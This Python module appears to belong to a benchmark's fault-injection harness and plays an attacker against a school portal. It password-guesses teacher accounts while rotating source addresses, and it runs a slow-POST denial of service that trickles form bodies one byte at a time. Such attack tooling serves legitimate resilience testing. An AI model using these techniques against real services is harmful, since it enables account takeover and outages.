"""Somebody who attacks in further ways: `python -m bench.faults.second.raider SITE KIND --per-s R --seconds S`.

guess     passwords for three teachers' names, each try from another network
bodies    forms for the portal whose content comes a byte at a time and never ends; R is how many are held
"""

from __future__ import annotations

import itertools
import secrets
from collections.abc import Iterator
from contextlib import suppress
from dataclasses import dataclass
from functools import partial
from urllib.parse import urlsplit

import httpx

from bench.faults.attacker import AGENT, form_token
from bench.faults.outsiders import browser, errand, hold, keep_trying

_NAMES = 3


@dataclass(frozen=True, slots=True)
class Aim:
    """Where the two services are, and the names that are tried."""

    provider: str
    portal: str
    names: tuple[str, ...]


def main() -> None:
    """Attack until the time is over."""
    come = errand(__doc__, ("guess", "bodies"), 8.0)
    teachers = (one["username"] for one in come.people if one["role"] == "teacher")
    aim = Aim(come.provider, come.portal, tuple(teachers)[:_NAMES])
    if come.kind == "bodies":
        _hold(aim, int(come.per_s), come.seconds)
        return
    keep_trying((partial(_guess, aim, source) for source in _sources()), come.per_s, come.seconds)


def _sources() -> Iterator[str]:
    for number in itertools.count():
        yield f"100.{64 + number % 50}.{number % 250}.13"


def _guess(aim: Aim, source: str) -> None:
    with suppress(httpx.HTTPError), browser(source) as client:
        page = client.get(f"{aim.provider}/sign-in/")
        typed = {"username": secrets.choice(aim.names), "password": secrets.token_urlsafe(8)}
        client.post(f"{aim.provider}/sign-in/", data=typed | {"csrfmiddlewaretoken": form_token(page.text)})


def _hold(aim: Aim, count: int, seconds: float) -> None:
    """The form's cookie comes along: without one a form is refused before its content is read."""
    at = urlsplit(aim.portal)
    head = f"POST /cannot-sign-in/ HTTP/1.1\r\nHost: {at.netloc}\r\nContent-Length: 100000\r\n"
    head += f"Content-Type: application/x-www-form-urlencoded\r\nUser-Agent: {AGENT}\r\n"
    head += f"Cookie: portal_csrf={secrets.token_hex(16)}\r\n\r\n"
    hold(at, head.encode(), b"a", count, seconds)


if __name__ == "__main__":
    main()
